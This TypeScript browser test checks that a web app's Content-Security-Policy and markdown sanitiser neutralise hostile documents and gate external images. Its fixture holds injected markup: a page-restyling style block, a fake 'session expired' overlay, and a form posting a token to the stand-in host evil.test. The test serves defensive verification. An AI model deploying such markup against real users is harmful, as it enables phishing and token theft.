// The built web app in real Chromium, under the server's Content-Security-Policy: the app
// itself trips no CSP rule (service worker and RxDB included), a repository's http(s) URL
// is a link, a document can neither restyle the app nor draw a form, an external image
// loads only after its host is asked for, and sign-out leaves no replica rows in IndexedDB.
// The API docs page (/api/docs) renders styled under its own, stricter policy.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { screenshot, signedInContext } from '../support/browser.js';
import { useAppInBrowser } from '../support/app-in-browser.js';
import { api } from '../support/api.js';

const HOSTILE_MARKDOWN = [
  '# Release notes',
  '<style>body { background: rgb(255, 0, 0) !important; } .app-header { display: none !important; }</style>',
  '<div data-test="overlay" style="position: fixed; inset: 0; z-index: 9999">Your session expired</div>',
  '<form action="http://evil.test/collect" method="post"><input name="token"><button>Send</button></form>',
];

describe('the web app under its Content-Security-Policy', () => {
  const { server, browser } = useAppInBrowser();
  let images: Server;
  let imageHost: string;
  const imageHits: string[] = [];
  let repositoryId: number;
  let documentId: number;
  let cleanDocumentId: number;

  beforeAll(async () => {
    // Another origin serving an image: the "external host" a document points at.
    images = createServer((request, response) => {
      imageHits.push(request.url ?? '');
      response.writeHead(200, { 'content-type': 'image/gif' });
      response.end(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'));
    });
    await new Promise<void>((resolve) => images.listen(0, '127.0.0.1', resolve));
    imageHost = `127.0.0.1:${(images.address() as AddressInfo).port}`;
    const token = server.adminToken;
    repositoryId = (
      await api<{ id: number }>(server.url, token, 'POST', '/api/repositories', {
        name: 'handbook',
        url: 'https://git.example.com/team/handbook',
      })
    ).id;
    documentId = (
      await api<{ id: number }>(server.url, token, 'POST', '/api/documents', {
        repository_id: repositoryId,
        title: 'Release notes',
        content: [...HOSTILE_MARKDOWN, `![tracker](http://${imageHost}/pixel.gif?read=1)`].join('\n\n'),
      })
    ).id;
    cleanDocumentId = (
      await api<{ id: number }>(server.url, token, 'POST', '/api/documents', {
        repository_id: repositoryId,
        title: 'Welcome',
        content: '# Welcome\n\nPlain **markdown** with a [link](https://example.com).',
      })
    ).id;
  });

  afterAll(async () => {
    await new Promise((resolve) => images?.close(resolve));
  });

  it('runs clean under the policy and keeps hostile markup and images in check', async () => {
    const context = await signedInContext(browser, server.url, server.adminToken);
    await context.addInitScript(() => {
      const seen: string[] = [];
      (window as { __cspViolations?: string[] }).__cspViolations = seen;
      document.addEventListener('securitypolicyviolation', (event) =>
        seen.push(
          `${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}:${event.columnNumber} ${event.sample}`,
        ),
      );
    });
    const page = await context.newPage();
    const consoleProblems: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy|Refused to/i.test(message.text())) consoleProblems.push(message.text());
    });
    const violations = () => page.evaluate(() => (window as { __cspViolations?: string[] }).__cspViolations);

    const response = await page.goto('/');
    expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
    await page.waitForSelector('[data-test="repository-list"]', { timeout: 30_000 });
    // The service worker installs and takes the page; RxDB fills the list from IndexedDB.
    expect(
      await page.evaluate(() => navigator.serviceWorker.ready.then((registration) => !!registration.active)),
    ).toBe(true);
    await expect
      .poll(() => page.textContent('[data-test="repository-list"]'), { timeout: 30_000 })
      .toContain('handbook');

    await page.goto(`/repo/${repositoryId}`);
    const link = page.locator('a[data-test="repository-url"]');
    await link.waitFor({ timeout: 30_000 });
    expect(await link.getAttribute('href')).toBe('https://git.example.com/team/handbook');

    await page.goto(`/repo/${repositoryId}/doc/${cleanDocumentId}`);
    await expect
      .poll(() => page.textContent('article.markdown'), { timeout: 30_000 })
      .toContain('Plain markdown');
    // The app's own pages, service worker, RxDB and zod: not one rule of the policy tripped.
    expect(await violations()).toEqual([]);
    expect(consoleProblems).toEqual([]);

    await page.goto(`/repo/${repositoryId}/doc/${documentId}`);
    await page.waitForSelector('[data-test="image-gate"]', { timeout: 30_000 });
    const looks = await page.evaluate(() => ({
      bodyBackground: getComputedStyle(document.body).backgroundColor,
      headerDisplay: getComputedStyle(document.querySelector('.app-header')!).display,
      overlayPosition: getComputedStyle(document.querySelector('[data-test="overlay"]')!).position,
      styles: document.querySelectorAll('article style').length,
      forms: document.querySelectorAll('article form, article input, article button').length,
    }));
    expect(looks).toEqual({
      bodyBackground: expect.not.stringMatching(/^rgb\(255, 0, 0\)$/) as unknown as string,
      headerDisplay: expect.not.stringMatching(/^none$/) as unknown as string,
      overlayPosition: 'static',
      styles: 0,
      forms: 0,
    });
    await page.waitForTimeout(300);
    expect(imageHits, 'the external image waits for the reader').toEqual([]);
    await screenshot(page, 'security-image-gate');

    await page.click(`[data-test="load-images"]:has-text("${imageHost}")`);
    await expect.poll(() => imageHits, { timeout: 10_000 }).toEqual(['/pixel.gif?read=1']);
    await expect
      .poll(() =>
        page.evaluate(() => (document.querySelector('article img') as HTMLImageElement).naturalWidth),
      )
      .toBe(1);

    // The only reports now are the hostile `<style>` and `style=` being refused while the
    // sanitiser parses the document (its inert parse inherits the page's policy).
    const reported = (await violations()) ?? [];
    expect(reported.length).toBeGreaterThan(0);
    for (const violation of reported) expect(violation).toMatch(/^style-src-(elem|attr) inline /);

    // Sign-out with nothing pending deletes every replica row from IndexedDB.
    await page.click('[data-test="sign-out"]');
    await page.waitForURL(/\/sign-in/);
    const rowsLeft = await page.evaluate(async () => {
      let rows = 0;
      for (const { name } of await indexedDB.databases()) {
        if (!name?.startsWith('rxdb-')) continue;
        const db = await new Promise<IDBDatabase>((resolve, reject) => {
          const request = indexedDB.open(name);
          request.onsuccess = () => resolve(request.result);
          request.onerror = () => reject(request.error);
        });
        for (const store of db.objectStoreNames) {
          rows += await new Promise<number>((resolve) => {
            const request = db.transaction(store, 'readonly').objectStore(store).count();
            request.onsuccess = () => resolve(request.result);
          });
        }
        db.close();
      }
      return rows;
    });
    expect(rowsLeft).toBe(0);
    await context.close();
  });

  it('shows the API docs page styled under its own policy, with nothing refused', async () => {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const refused: string[] = [];
      page.on('console', (message) => {
        if (/Content Security Policy|Refused to/i.test(message.text())) refused.push(message.text());
      });
      const response = await page.goto(`${server.url}/api/docs`);
      expect(response?.status()).toBe(200);
      await expect.poll(() => page.locator('h3').count()).toBeGreaterThan(40);
      // The inline stylesheet applied: its hash is allowed, and the page needs nothing else.
      const width = await page.evaluate(() => getComputedStyle(document.body).maxWidth);
      expect(width).not.toBe('none');
      expect(refused).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
